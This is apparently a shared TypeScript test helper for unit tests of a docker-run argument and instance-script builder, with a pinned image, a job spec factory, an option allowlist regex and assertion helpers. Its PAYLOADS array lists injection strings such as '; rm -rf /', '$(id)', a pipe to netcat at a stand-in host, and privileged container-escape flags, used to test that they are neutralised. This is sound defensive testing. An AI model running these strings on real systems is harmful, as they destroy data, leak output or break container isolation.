/**
 * What the container-command tests (test/unit/docker-run-args*.test.ts, instance-scripts.test.ts) share:
 * a pinned image, a job spec, strings that would do something if a shell or docker's option parser saw
 * them, and the checks on what dockerRunArgs and instanceScript produce.
 */
import assert from 'node:assert/strict';
import type { DockerRunOptions } from '../../lambdas/core/container-command.js';
import { ValidationError } from '../../lambdas/core/errors.js';
import type { ContainerSpec } from '../../lambdas/ports/compute.js';

export const DIGEST = `sha256:${'0123456789abcdef'.repeat(4)}`;
export const IMAGE = `nvcr.io/nvidia/pytorch:24.05-py3@${DIGEST}`;

/** Strings that would do something if any shell or docker option parser saw them. */
export const PAYLOADS = [
  '; rm -rf /',
  '$(id)',
  '`id`',
  'a && touch /tmp/owned',
  'x | nc evil 1',
  'it\'s "quoted" \\ back',
  'line1\nline2\r\nline3',
  '--privileged',
  '--volume=/:/host',
  '-v',
  '/:/host',
  '--network=host',
  '--pid=host',
  '--cap-add=SYS_ADMIN',
  '--device=/dev/mem',
  '${HOME}',
  '{{ssm:secret}}',
  '*',
  '~root',
  '',
  '   ',
  'ünïcødé ✓ 🚀',
  "'; exec sh; '",
  'FLARE_ARGV_BASE64',
];

export function spec(overrides: Partial<ContainerSpec> = {}): ContainerSpec {
  return {
    jobId: 'job-1',
    image: IMAGE,
    command: ['python', 'train.py'],
    env: {},
    gpus: 1,
    expiresAt: '2030-01-01T00:00:00.000Z',
    ...overrides,
  };
}
export const OPTIONS: DockerRunOptions = { memory: '30g' };

export function nastySpec(): ContainerSpec {
  const env: Record<string, string> = {};
  PAYLOADS.forEach((p, i) => {
    env[`EVIL_${i}`] = p;
  });
  return spec({ command: [...PAYLOADS], env });
}

export function assertValidation(fn: () => unknown, field: string | RegExp): void {
  assert.throws(fn, (error: unknown) => {
    assert.ok(error instanceof ValidationError, `expected ValidationError, got ${String(error)}`);
    const fields = error.details.map((d) => d.field);
    assert.ok(
      fields.some((f) => (typeof field === 'string' ? f === field : field.test(f))),
      `no issue for ${field} in ${JSON.stringify(error.details)}`,
    );
    return true;
  });
}

/** Options docker may see before the image: anything else (privileged, host namespaces, volumes, devices, cap-add) is a bug. */
export const ALLOWED_OPTION =
  /^--(rm|detach|init|name=flare-[a-z0-9-]+|label=flare\.job=[a-z0-9-]+|cap-drop=ALL|security-opt=no-new-privileges|pids-limit=\d+|memory=\w+|shm-size=\w+|user=\d+(:\d+)?|gpus=(all|"device=[\d,]+")|env=[A-Za-z_][A-Za-z0-9_]*=[\s\S]*|mount=type=bind,src=[\w./-]+,dst=\/scratch|log-driver=[\w.-]+|log-opt=[\w.-]+=[\s\S]*)$/;

export function splitAtImage(argv: string[]): { options: string[]; image: string; command: string[] } {
  const dash = argv.indexOf('--');
  assert.ok(dash > 0, 'argv has a -- before the image');
  return { options: argv.slice(1, dash), image: argv[dash + 1], command: argv.slice(dash + 2) };
}

export function decodeScript(script: string): string[] {
  const match = /<<'FLARE_ARGV_BASE64'\n([A-Za-z0-9+/=\n]*?)\nFLARE_ARGV_BASE64\n/.exec(script);
  assert.ok(match, 'script carries a base64 heredoc');
  return JSON.parse(Buffer.from(match[1].replace(/\n/g, ''), 'base64').toString('utf8'));
}
